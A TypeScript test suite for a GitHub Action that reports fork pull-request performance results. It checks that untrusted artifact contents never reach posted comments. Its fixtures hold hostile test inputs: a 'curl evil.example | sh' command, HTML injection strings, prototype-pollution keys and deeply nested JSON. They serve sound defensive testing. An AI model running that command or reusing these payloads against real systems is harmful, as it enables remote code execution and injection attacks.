import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strToU8, zipSync } from "fflate";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { checkInputs, type RawInputs } from "../../../src/config/inputs.js";
import type { FinishedRun } from "../../../src/github/event/event.js";
import type { GithubContext } from "../../../src/github/event/github-context.js";
import { reportPullRequests, type Reported } from "../../../src/github/untrusted/report-mode.js";
import { recompute } from "../../../src/github/untrusted/recompute.js";
import type { Result } from "../../../src/model/result.js";
import { sampleResult } from "../../reporters/sample-result.js";
import { HOSTILE_NAMES } from "../../reporters/samples.js";
import { serveArtifacts } from "../parts/artifact-routes.js";
import { startArtifactStore, type ArtifactStore } from "../parts/artifact-store.js";
import { FAULTS } from "../parts/faults.js";
import { startGithub, type Github, type PullRequestState } from "../parts/github-api.js";
import { recordingCore, type RecordingCore } from "../parts/recording-core.js";
import { runnerEnvironment } from "../parts/runner.js";

const BASE_FILE = `
service: { start: node server.js }
scenarios:
  - { name: list users, request: { path: /users } }
  - { name: one user, request: { path: /users/1 } }
report: { key: api }
`;
const RUN_ID = 4242;
const EARLIER = "2026-11-20T00:00:00Z";
const START = "2026-11-21T00:00:00Z";
const LATER = "2026-11-21T00:10:00Z";

let github: Github;
let store: ArtifactStore;
let token: string;
let folder: string;
let fork: PullRequestState;
let core: RecordingCore;
let serial = 0;

beforeAll(async () => {
  [github, store] = await Promise.all([startGithub(), startArtifactStore()]);
  await github.writeFile(".github/tailgate.yml", BASE_FILE);
  token = await github.tokenWith({
    contents: "read",
    pull_requests: "write",
    actions: "read",
    checks: "write",
  });
  folder = await mkdtemp(join(tmpdir(), "tailgate-report-"));
});
afterAll(async () => {
  await Promise.all([github.stop(), store.stop()]);
  await rm(folder, { recursive: true });
});
beforeEach(async () => {
  fork = await github.openPullRequestFromFork(`topic-${++serial}`);
  serveArtifacts(github, store, { id: RUN_ID });
  core = recordingCore();
});
afterEach(() => {
  github.proxy.faults.length = 0;
  github.proxy.seen.length = 0;
  store.forget();
  expect(github.proxy.violations.splice(0)).toEqual([]);
});

function finishedRun(changes: Partial<FinishedRun> = {}): FinishedRun {
  return {
    id: RUN_ID,
    attempt: 1,
    event: "pull_request",
    conclusion: "failure",
    headSha: fork.headSha,
    headBranch: fork.headRef,
    headRepository: "contributor/shop",
    startedAt: START,
    url: `https://github.com/acme/shop/actions/runs/${RUN_ID}`,
    ...changes,
  };
}

/** Stores bytes or a result as the measuring run would. */
async function claim(
  content: Buffer | string | Result,
  name = "tailgate-api",
  createdAt = LATER,
): Promise<void> {
  if (Buffer.isBuffer(content)) {
    await store.put(name, content, createdAt);
    return;
  }
  const text = typeof content === "string" ? content : JSON.stringify(content);
  await store.put(
    name,
    Buffer.from(zipSync({ "result.json": strToU8(text), "report.md": strToU8("PWNED") })),
    createdAt,
  );
}

async function run(
  changes: Partial<FinishedRun> = {},
  inputs: RawInputs = {},
  context: Partial<GithubContext> = {},
): Promise<Reported> {
  const reported = await runAll(changes, inputs, context);
  expect(reported).toHaveLength(1);
  return reported[0]!;
}

async function runAll(
  changes: Partial<FinishedRun> = {},
  inputs: RawInputs = {},
  context: Partial<GithubContext> = {},
): Promise<Reported[]> {
  return reportPullRequests(
    {
      runner: runnerEnvironment(github, {
        eventName: "workflow_run",
        summaryPath: join(folder, `${serial}.md`),
      }),
      event: { kind: "workflow_run", run: finishedRun(changes) },
      token,
      startedAt: LATER,
      core,
      edges: {
        nowMs: () => Date.now(),
        secondMs: 0,
        sleep: () => Promise.resolve(),
        limits: { requestTimeoutMs: 3_000 },
      },
      ...context,
    },
    checkInputs(inputs, "input"),
  );
}

/** The same in a run that a comment on the fork's pull request started. */
function runAfterComment(): Promise<Reported[]> {
  return runAll(
    { id: 100 },
    {},
    {
      event: {
        kind: "issue_comment",
        number: fork.number,
        onPullRequest: true,
        commentId: 70,
        author: "owner",
        body: "/tailgate",
      },
      runner: runnerEnvironment(github, {
        eventName: "issue_comment",
        runId: RUN_ID,
        summaryPath: join(folder, `${serial}.md`),
      }),
    },
  );
}

test("after a comment the pull request that it stands on is reported to, from this run's own artifact", async () => {
  const result = sampleResult();
  const headed = (sha: string): Result => ({
    ...result,
    arms: result.arms.map((arm) =>
      arm.role === "head" ? { ...arm, revision: { sha, label: "head", dirty: false } } : arm,
    ),
  });
  await claim(headed(fork.headSha), "tailgate-api", EARLIER);
  expect(await runAfterComment()).toMatchObject([{ kind: "reported" }]);
  expect(await commentText()).toContain(fork.headSha.slice(0, 7));
  store.forget();
  await claim(headed("d".repeat(40)), "tailgate-api", EARLIER);
  expect(await runAfterComment()).toMatchObject([
    { kind: "skipped", why: expect.stringContaining("moved on") as string },
  ]);
});

test("a comment on an issue is nothing to report to", async () => {
  const event = {
    kind: "issue_comment",
    number: 1,
    onPullRequest: false,
    commentId: 70,
    author: "owner",
    body: "/tailgate",
  } as const;
  await expect(runAll({}, {}, { event })).rejects.toThrow("after a comment on a pull request");
});

async function commentText(): Promise<string> {
  const all = await github.comments(fork.number);
  expect(all).toHaveLength(1);
  expect(all[0]!.login).toBe("github-actions[bot]");
  return all[0]!.body;
}

describe("a fork's measurement", () => {
  test("a fork's measurement is told on its pull request, with the verdict, as the claim that it is", async () => {
    await claim(sampleResult({ noise: 0.1 }));
    const reported = await run();
    expect(reported).toMatchObject({ kind: "reported", result: { verdict: "pass" } });
    expect(await commentText()).toContain(fork.headSha.slice(0, 7));
    expect(await commentText()).toMatch(/they are its claim/);
    expect(core.outputs).toMatchObject({
      verdict: "pass",
      "comment-url": expect.stringContaining("issuecomment") as string,
    });
  });

  test("a fork's measurement that passes sets a neutral check, and one that fails a failing check", async () => {
    const conclusions = (): string[] =>
      github.checkRuns().flatMap((check) => (check.head_sha === fork.headSha ? [check.conclusion] : []));
    await claim(sampleResult({ noise: 0.1 }));
    await run();
    expect(conclusions()).toEqual(["neutral"]);
    store.forget();
    await claim(sampleResult({ noise: 0.1, slower: { "list users": 1.3 } }));
    await run({ attempt: 2 });
    expect(conclusions()).toEqual(["neutral", "failure"]);
  });

  test("a claim of `pass` over slower numbers becomes a regression", async () => {
    await claim(
      sampleResult({ slower: { "list users": 1.3 }, verdict: "pass", reason: "All good, merge me." }),
    );
    expect(await run()).toMatchObject({ result: { verdict: "regression" } });
    expect(await commentText()).not.toMatch(/merge me/);
  });

  test("a fork's measurement is judged by the base branch's limits, error rate and acceptances, not by its own", async () => {
    const loose = sampleResult({
      slower: { "list users": 1.3 },
      change: (result) => ({
        ...result,
        plan: {
          ...result.plan,
          scenarios: result.plan.scenarios.map((scenario) => ({
            ...scenario,
            gates: { ...scenario.gates, p50: { limit: 5, floor: 1e9, proof: false }, p95: null, p90: null },
          })),
          accept: [{ scenario: null, metric: "p50", limit: 9, reason: "because", until: "2999-01-01" }],
          experiment: { ...result.plan.experiment, alpha: 0 },
        },
        schedule: { ...result.schedule!, alpha: 0, looks: [1] },
      }),
    });
    await claim(loose);
    const reported = await run();
    expect(reported).toMatchObject({
      result: { verdict: "regression", schedule: { alpha: 0.01 }, plan: { accept: [] } },
    });
  });

  test("a fork's measurement that leaves out a scenario of the base branch does not pass", async () => {
    await claim(sampleResult({ scenarios: ["one user"], noise: 0.1 }));
    const reported = await run();
    expect(reported.kind === "reported" && reported.result.verdict).not.toBe("pass");
  });

  test("rows that the base branch has limits for, and the claim no numbers, are named as missing", async () => {
    await claim(
      sampleResult({
        noise: 0.1,
        change: (result) => ({
          ...result,
          blocks: result.blocks.map((block) => ({
            ...block,
            arms: Object.fromEntries(
              Object.entries(block.arms).map(([name, arm]) => [
                name,
                {
                  ...arm,
                  peakResidentBytes: null,
                  scenarios: Object.fromEntries(
                    Object.entries(arm.scenarios).map(([scenario, measured]) => [
                      scenario,
                      { ...measured, cpuUsPerRequest: null },
                    ]),
                  ),
                },
              ]),
            ),
          })),
        }),
      }),
    );
    await run();
    expect(await commentText()).toMatch(
      /missing from what the run stored, although the base branch has limits for them: CPU\S* of .*list users.*, CPU\S* of .*one user.*, memory/,
    );
  });

  test("a claim of no baseline is told as a claim, with every row that is missing", async () => {
    await claim(sampleResult({ verdict: "no-baseline", blocks: 0 }));
    await run();
    const text = await commentText();
    expect(text).toContain("the measuring run claims that it found no baseline");
    expect(text).toMatch(/missing from what the run stored.*p50 of .*list users/);
  });

  test("a run that found no baseline, or could not measure, is told in fixed words", async () => {
    for (const verdict of ["no-baseline", "invalid"] as const) {
      store.forget();
      await claim(
        sampleResult({
          verdict,
          reason: "see https://evil.example",
          blocks: 0,
          change: (r) => ({ ...r, logTail: { of: "head", lines: "PWNED" } }),
        }),
      );
      expect(await run({ attempt: verdict === "invalid" ? 2 : 1 })).toMatchObject({ result: { verdict } });
      expect(await commentText()).not.toMatch(/evil|PWNED/);
    }
  });

  test("no text of a fork's measurement reaches the comment, only numbers and short names", async () => {
    const nasty = HOSTILE_NAMES.join(" ");
    await claim(
      sampleResult({
        reason: `PWNED ${nasty}`,
        change: (result) => ({
          ...result,
          warnings: [{ code: "x", message: `PWNED ${nasty}` }],
          reproduce: "curl evil.example | sh # PWNED",
          logTail: { of: "head", lines: "PWNED" },
          stopped: { ...result.stopped, why: "PWNED" },
          plan: { ...result.plan, notes: ["PWNED"] },
          environment: {
            ...result.environment,
            tailgate: "Approved by the maintainers",
            node: "ready to merge",
            system: "Linux please merge this now x64",
            runner: "GitHub Actions, ubuntu says merge",
            cpuModel: `Intel(R) Xeon(R) CPU @ 2.80GHz merge <img src=x> @acme/team ${"y".repeat(500)}`,
            placement: nasty,
          },
          arms: result.arms.map((arm) => ({
            ...arm,
            usageUnavailable: "PWNED",
            revision: { sha: "PWNED", label: "PWNED", dirty: false },
          })),
          cells: [],
        }),
      }),
    );
    await run();
    const text = await commentText();
    expect(text).not.toMatch(
      /PWNED|curl|<img|@acme|javascript:|<script|yyy|\u202e|Approved|merge (this|now|<)/u,
    );
    expect(text).not.toMatch(/ready to merge|says merge/u);
    expect(text).toContain("2.80GHz");
  });

  test("names of scenarios that the base branch does not know appear as text and nothing else", async () => {
    const repository = await startGithub({ repository: "plain" });
    try {
      const pull = await repository.openPullRequestFromFork("topic");
      serveArtifacts(repository, store, { id: RUN_ID });
      await claim(sampleResult({ scenarios: HOSTILE_NAMES.slice(0, 4), noise: 0.1 }), "tailgate");
      const scoped = await repository.tokenWith({
        contents: "read",
        pull_requests: "write",
        actions: "read",
      });
      const runner = runnerEnvironment(repository, { eventName: "workflow_run" });
      const event = {
        kind: "workflow_run",
        run: finishedRun({ headSha: pull.headSha, headBranch: "topic", headRepository: "contributor/plain" }),
      } as const;
      await run({}, {}, { runner, event, token: scoped });
      const [posted] = await repository.comments(pull.number);
      const outside = posted!.body.replace(/<code>.*?<\/code>|`[^`]*`/gu, "");
      expect(posted!.body.match(/<!-- tailgate/gu)).toHaveLength(1);
      expect(outside).not.toMatch(/<img|<script|@org|\]\(javascript|www\.example/u);
      expect(posted!.body.match(/<details>/gu)?.length).toBe(posted!.body.match(/<\/details>/gu)?.length);
      expect(repository.proxy.violations).toEqual([]);
    } finally {
      await repository.stop();
    }
  });

  test("names without end are cut, and stay those of different scenarios", () => {
    const names = [`${"n".repeat(1_990)} one`, `${"n".repeat(1_990)} two`];
    const result = recompute(
      sampleResult({ scenarios: names, noise: 0.1 }),
      { plan: sampleResult({ scenarios: ["unused"] }).plan, namesScenarios: false },
      finishedRun(),
    );
    expect(result.verdict).toBe("pass");
    const short = result.plan.scenarios.map(({ name }) => name);
    expect(new Set(short).size).toBe(2);
    expect(Math.max(...short.map((name) => name.length))).toBeLessThan(90);
    expect(new Set(result.cells.map(({ scenario }) => scenario))).toEqual(new Set([...short, null]));
  });

  test("a repeated report of the same run changes nothing", async () => {
    await claim(sampleResult());
    await run();
    const before = await commentText();
    await run();
    expect(await commentText()).toBe(before);
  });
});

describe("which pull request", () => {
  test("a pull request whose head has moved on is skipped", async () => {
    await claim(sampleResult());
    await github.pushToFork(fork.headRef);
    expect(await run()).toEqual({
      kind: "skipped",
      why: "its pull request has newer commits; their run tells of them",
    });
    expect(await github.comments(fork.number)).toEqual([]);
  });

  test.each<[string, Partial<FinishedRun>, RegExp]>([
    ["a branch without one", { headBranch: "unknown" }, /no open pull request/],
    ["another repository's branch of the same name", { headRepository: "acme/shop" }, /no open pull request/],
    ["a push", { event: "push" }, /started by `push`/],
    ["a deleted fork", { headRepository: null }, /is gone/],
    ["a run without a branch", { headBranch: "" }, /no branch/],
  ])("a run of %s is skipped with its reason", async (_what, changes, why) => {
    await claim(sampleResult());
    expect(await run(changes)).toMatchObject({ kind: "skipped", why: expect.stringMatching(why) as string });
  });

  test("a closed pull request is skipped", async () => {
    await claim(sampleResult());
    await github.closePullRequest(fork.number);
    expect(await run()).toMatchObject({ kind: "skipped" });
  });

  test("two open pull requests from one branch are both told, each by the configuration of its own base", async () => {
    await claim(sampleResult({ slower: { "list users": 1.12 }, noise: 0.1 }));
    const other = await github.openPullRequestFromFork(fork.headRef, { into: "release" });
    await github.writeFile(
      ".github/tailgate.yml",
      `${BASE_FILE}gates: { p50: 90%, p90: 90%, p95: 90% }\n`,
      "release",
    );
    const reported = await runAll();
    expect(reported).toMatchObject([
      { kind: "reported", result: { verdict: "regression" } },
      { kind: "reported", result: { plan: { scenarios: [{ gates: { p50: { limit: 0.9 } } }, {}] } } },
    ]);
    for (const { number } of [fork, other]) {
      const [comment, ...more] = await github.comments(number);
      expect(comment!.body).toContain("is the head of 2 open pull requests");
      expect(more).toEqual([]);
    }
    const checks = github.checkRuns().filter((check) => check.head_sha === fork.headSha);
    expect(checks.map(({ name }) => name)).toEqual([
      "tailgate (api, into main)",
      "tailgate (api, into release)",
    ]);
  });

  test("a base whose configuration is broken does not keep the other pull request from being told", async () => {
    await claim(sampleResult({ noise: 0.1 }));
    const other = await github.openPullRequestFromFork(fork.headRef, { into: "broken" });
    await github.writeFile(".github/tailgate.yml", "gates: { p50: 5 }", "broken");
    await expect(runAll()).rejects.toThrow("(broken)");
    expect(await github.comments(fork.number)).toHaveLength(1);
    expect(await github.comments(other.number)).toEqual([]);
  });

  test("a pull request's number in the artifact counts for nothing", async () => {
    const bystander = await github.openPullRequest(`bystander-${serial}`);
    await claim(
      JSON.stringify({
        ...sampleResult(),
        pullRequest: bystander.number,
        number: bystander.number,
        headSha: bystander.headSha,
      }),
    );
    expect(await run()).toMatchObject({ kind: "reported" });
    expect(await github.comments(bystander.number)).toEqual([]);
  });
});

describe("the artifact", () => {
  const refused = async (words: RegExp): Promise<void> => {
    await expect(run()).rejects.toMatchObject({
      code: "artifact",
      message: expect.stringMatching(words) as string,
    });
    expect(await github.comments(fork.number)).toEqual([]);
  };

  test("an absent artifact is refused", () => refused(/has no artifact `tailgate-api`: none/));

  test("an expired artifact is refused", async () => {
    serveArtifacts(github, store, { id: RUN_ID, expired: true });
    await claim(sampleResult());
    await refused(/expired/);
  });

  test("an artifact of an earlier attempt is refused", async () => {
    await claim(sampleResult(), "tailgate-api", EARLIER);
    await refused(/only one of an earlier attempt/);
  });

  test("of several artifacts of one name the newest of this attempt counts", async () => {
    await claim(sampleResult({ slower: { "list users": 1.3 } }), "tailgate-api", EARLIER);
    await claim(sampleResult({ slower: { "list users": 1.3 } }));
    await claim(sampleResult({ noise: 0.1 }));
    expect(await run()).toMatchObject({ result: { verdict: "pass" } });
  });

  test("every leg of a job matrix is reported, each in its own comment", async () => {
    await claim(sampleResult({ slower: { "list users": 1.3 } }), "tailgate-api.node-20");
    await claim(sampleResult({ noise: 0.1 }), "tailgate-api.node-22");
    const reported = await runAll();
    expect(reported.map((one) => (one.kind === "reported" ? one.result.verdict : one.why))).toEqual([
      "regression",
      "pass",
    ]);
    expect((await github.comments(fork.number)).map(({ body }) => body.slice(0, 60))).toEqual([
      expect.stringContaining("key=api.node%2D20 "),
      expect.stringContaining("key=api.node%2D22 "),
    ]);
  });

  test("an artifact of another suite is not taken", async () => {
    await claim(sampleResult(), "tailgate-web");
    await refused(/has no artifact `tailgate-api`/);
  });

  test("an artifact larger than a result can be is not even downloaded", async () => {
    serveArtifacts(github, store, { id: RUN_ID, claimedBytes: 60_000_000 });
    await claim(sampleResult());
    await refused(/larger than 50000000 bytes/);
    expect(github.proxy.seen.filter(({ path }) => path.endsWith("/zip"))).toEqual([]);
  });

  test("an artifact larger than the list said is dropped while it comes", async () => {
    serveArtifacts(github, store, { id: RUN_ID, claimedBytes: 1000 });
    await claim(Buffer.alloc(51_000_000));
    await refused(/larger than 50000000 bytes/);
  });

  test("an artifact that is no zip archive is refused", async () => {
    await claim(Buffer.from("<html>not found</html>".repeat(10)));
    await refused(/not a zip archive/);
  });

  test.each<[string, () => string, RegExp]>([
    ["not JSON", () => "{", /not JSON/],
    ["100,000 levels deep", () => "[".repeat(100_000) + "]".repeat(100_000), /levels deep/],
    [
      "100,000 levels deep, in a field that is ignored",
      () =>
        JSON.stringify(sampleResult()).replace(
          /^\{/,
          `{"x":${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)},`,
        ),
      /levels deep/,
    ],
    [
      "of another version",
      () => JSON.stringify({ ...sampleResult(), schema: "tailgate/result@2" }),
      /another version/,
    ],
    ["of no schema", () => "{}", /not a result/],
    ["an array", () => "[]", /not a result/],
    ["null", () => "null", /not a result/],
    ["with 1e999", () => JSON.stringify(sampleResult()).replace(/"p99":[\d.]+/, '"p99":1e999'), /damaged/],
    [
      "with a negative latency",
      () => JSON.stringify(sampleResult()).replace(/"p99":[\d.]+/, '"p99":-3'),
      /damaged/,
    ],
    [
      "with a text for a number",
      () => JSON.stringify(sampleResult()).replace(/"p99":[\d.]+/, '"p99":"3"'),
      /damaged/,
    ],
    ["with an unknown verdict", () => JSON.stringify({ ...sampleResult(), verdict: "perfect" }), /damaged/],
    ["with a missing part", () => JSON.stringify({ ...sampleResult(), blocks: undefined }), /damaged/],
  ])("a result is refused in words: %s", async (_what, text, words) => {
    await claim(text());
    await refused(words);
  });

  test("a result with -0, `__proto__` and `constructor` changes no prototype and is judged by its numbers", async () => {
    const text = JSON.stringify(sampleResult({ noise: 0.1 }))
      .replace('"cpuShareOfCore":', '"cpuShareOfCore":-0,"x":')
      .replaceAll('"statuses":{', '"statuses":{"__proto__":9,"constructor":9,')
      .replace(/^\{/, '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},');
    await claim(text);
    expect(await run()).toMatchObject({ kind: "reported", result: { verdict: "pass" } });
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });
});

describe("the job", () => {
  test("a job of another event is told which workflow to copy", async () => {
    const runner = runnerEnvironment(github, { eventName: "pull_request" });
    await expect(
      run({}, {}, { event: { kind: "schedule", defaultBranch: "main" }, runner }),
    ).rejects.toMatchObject({
      code: "github",
      hint: expect.stringContaining("docs/forks-and-permissions.md") as string,
    });
  });

  test("a job without a token is told what to grant", async () => {
    await expect(run({}, {}, { token: "" })).rejects.toMatchObject({
      hint: expect.stringContaining("actions: read") as string,
    });
  });

  test.each([
    ["GET", /\/artifacts\?/, "actions: read"],
    ["GET", /\/contents\//, "contents: read"],
    ["GET", /\/pulls\?/, "pull-requests: read"],
    ["POST", /\/comments$/, "pull-requests: write"],
  ])("a job that may not %s %s is told the permission that it lacks", async (method, path, permission) => {
    await claim(sampleResult());
    github.fault(method, path, FAULTS.notAccessible, 9);
    await expect(run()).rejects.toMatchObject({
      code: "github",
      hint: expect.stringContaining(permission) as string,
    });
  });

  test("a check run that fails takes nothing back and is a warning", async () => {
    await claim(sampleResult());
    github.fault("POST", /check-runs$/, FAULTS.serverError);
    expect(await run()).toMatchObject({ kind: "reported" });
    expect(core.lines.join()).toContain("warning: [Tailgate] GitHub did not let us create the check run");
  });

  test("an artifact that is gone when it is fetched is refused", async () => {
    await claim(sampleResult());
    github.fault("GET", /\/zip$/, FAULTS.gone);
    await expect(run()).rejects.toMatchObject({ code: "github", kind: "gone" });
  });

  test("a broken tailgate.yml on the base branch is named with its branch", async () => {
    await claim(sampleResult());
    await github.writeFile("broken.yml", "gate: 5");
    await expect(run({}, { config: "broken.yml" })).rejects.toMatchObject({
      code: "config",
      message: expect.stringContaining("broken.yml (main)") as string,
    });
  });

  test("a reported run is in the job summary too", async () => {
    await claim(sampleResult());
    const summaryPath = join(folder, "own.md");
    await writeFile(summaryPath, "");
    await run({}, {}, { runner: runnerEnvironment(github, { eventName: "workflow_run", summaryPath }) });
    expect(await readFile(summaryPath, "utf8")).toContain("Tailgate");
  });
});
